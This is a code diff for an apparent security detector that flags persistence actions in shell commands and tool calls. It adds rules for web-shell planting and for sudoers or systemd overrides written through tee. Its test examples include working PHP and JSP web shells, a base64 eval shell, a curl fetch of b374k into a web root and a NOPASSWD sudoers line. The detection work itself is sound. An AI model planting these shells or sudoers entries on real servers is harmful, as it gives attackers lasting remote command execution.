@@ -66,8 +66,10 @@ function writesOf(input: AnalysisInput): Written[] {
       }
     }
     if (c.name === 'dd') { const of = c.argv.find((w) => w.startsWith('of=')); if (of) add(of.slice(3), '', c); }
-    // `echo '… NOPASSWD: ALL' | EDITOR='tee -a' visudo`: the editor visudo starts is tee, writing what it reads
-    if (c.name === 'visudo' && c.assignments.some((a) => (a.name === 'EDITOR' || a.name === 'VISUAL' || a.name === 'SUDO_EDITOR') && /^(?:\S*\/)?tee(?:\s|$)/.test(a.value))) add(optionValue(c.argv, ['-f', '--file']) ?? '/etc/sudoers', writtenText(c), c, true);
+    // `echo '… NOPASSWD: ALL' | EDITOR='tee -a' visudo`, `… | SYSTEMD_EDITOR=tee systemctl edit cron`: the editor started is tee, writing what it reads
+    const teeEditor = c.assignments.some((a) => /^(?:SYSTEMD_|SUDO_)?(?:EDITOR|VISUAL)$/.test(a.name) && /^(?:\S*\/)?tee(?:\s|$)/.test(a.value));
+    if (teeEditor && c.name === 'visudo') add(optionValue(c.argv, ['-f', '--file']) ?? '/etc/sudoers', writtenText(c), c, true);
+    if (teeEditor && c.name === 'systemctl' && c.argv.includes('edit')) { const unit = operands(c).find((w) => w !== 'edit'); if (unit) add(`/etc/systemd/system/${unit}.d/override.conf`, writtenText(c), c); }
     // `git diff --output=F` (and log, show, format-patch) writes its output to F
     if (c.name === 'git') { const out = optionValue(c.argv, ['--output']); if (out) add(out, '', c); }
     // `curl -o F URL` writes F as `curl URL > F` does, with what the server sends
@@ -202,7 +204,7 @@ export function threat(group: PersistedGroup, input: AnalysisInput): { level: 0 
     if (preload.length) return { level: 2, evidence: `${preload[0]!.name}=${preload[0]!.value}` };
     for (const a of assignments(c)) {
       if (a.name === 'PROMPT_COMMAND') { if (hostileText(a.value)) return { level: 2, evidence: `PROMPT_COMMAND=${a.value}` }; suspicious ??= `PROMPT_COMMAND=${a.value}`; }
-      if (a.name === 'PATH' && isStagingPath(a.value.split(':')[0] ?? '')) suspicious ??= `PATH=${a.value}`;
+      if (a.name === 'PATH' && (isStagingPath(a.value.split(':')[0] ?? '') || hiddenInHiddenHomeDir(a.value.split(':')[0] ?? ''))) suspicious ??= `PATH=${a.value}`;
     }
     if (c.name === 'alias') {
       const def = c.argv[1] ?? '';
@@ -342,6 +344,11 @@ function pipelinePayload(text: string): string | undefined {
   const sendsSecrets = /\$\{\{\s*(?:secrets\.|toJSON\(secrets\))/.test(text) || names.includes('env') || names.includes('printenv');
   return fetches && (runs || sendsSecrets) ? untrusted : undefined;
 }
+
+/** Request input handed to a code or command runner: PHP's `system($_GET[…])`, `eval(base64_decode($_POST[…]))`, JSP's `exec(request.getParameter(…))`, ASP's `eval(Request(…))`. */
+const REQUEST_EXEC = /\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert|create_function)\s*\(\s*(?:(?:base64_decode|gzinflate|gzuncompress|str_rot13|urldecode|stripslashes)\s*\(\s*){0,3}\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|getRuntime\(\)\.exec\(\s*request\.getParameter|\beval\s*\(\s*Request(?:\.(?:Form|QueryString|Item))?\s*[([]/i;
+/** Files a web server runs rather than serves. */
+const SERVER_SCRIPT = /\.(?:php\d?|phtml|jspx?|aspx?|ashx|cfm|cgi)$/i;
 
 export const RULES: readonly Rule[] = [
   {
@@ -696,6 +703,24 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: ['gh repo deploy-key add ~/.ssh/k.pub --repo acme/api --allow-write --title ci', 'gh api repos/acme/api/keys -f title=ci -f key="ssh-ed25519 AAAA x" -F read_only=false', { Unknown: { tool_name: 'mcp__github__add_deploy_key', params: { owner: 'acme', repo: 'api', title: 'ci', key: 'ssh-ed25519 AAAA x', read_only: false } } }],
       quiet: ['gh repo deploy-key add ~/.ssh/k.pub --repo acme/api --title ci', 'gh repo deploy-key list --repo acme/api', { Unknown: { tool_name: 'mcp__github__add_deploy_key', params: { owner: 'acme', repo: 'api', title: 'ci', key: 'ssh-ed25519 AAAA x', read_only: true } } }],
+    },
+  },
+  {
+    id: 'PX-PERSIST-028', name: 'plants-web-shell', score: 90, tactic: 'persistence', technique: 'T1505.003', strong: true,
+    message: 'Writes a web shell: server code that runs what a request sends, or a script fetched from a drop into a web root',
+    why: '`<?php system($_GET["cmd"]); ?>` in a served directory lets anyone with the URL run commands as the web server, long after the session.',
+    check: (i) => {
+      const out: string[] = [];
+      for (const w of writes(i)) {
+        if (REQUEST_EXEC.test(w.text.slice(0, 16384))) out.push(`${w.path}: ${w.text.slice(0, 100)}`);
+        // a server-side script downloaded from a raw IP, paste site or tunnel straight into what the web server runs
+        else if (w.cmd && isFetcher(w.cmd) && SERVER_SCRIPT.test(w.path) && w.cmd.argv.some(dropUrl)) out.push(`${w.cmd.argv.join(' ').slice(0, 160)}`);
+      }
+      return out;
+    },
+    examples: {
+      fire: [`echo '<?php system($_GET["cmd"]); ?>' > /var/www/html/.config.php`, `printf '<?php if(isset($_REQUEST["k"])){eval(base64_decode($_REQUEST["k"]));} ?>' > /var/www/html/wp-content/uploads/cache.php`, 'curl -so /var/www/html/images/thumb.php http://203.0.113.7/b374k.txt', { Filesystem: { operation: 'Write', path: '/opt/tomcat/webapps/ROOT/s.jsp', content: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' } }],
+      quiet: [`echo '<?php phpinfo(); ?>' > /var/www/html/info.php`, `printf '<?php echo htmlspecialchars($_GET["q"]); ?>' > public/search.php`, 'curl -so public/vendor/jquery.min.js https://code.jquery.com/jquery-3.7.1.min.js', { Filesystem: { operation: 'Write', path: 'src/routes/api.ts', content: 'exec(req.query.cmd) // TODO remove' } }],
     },
   },
 ];
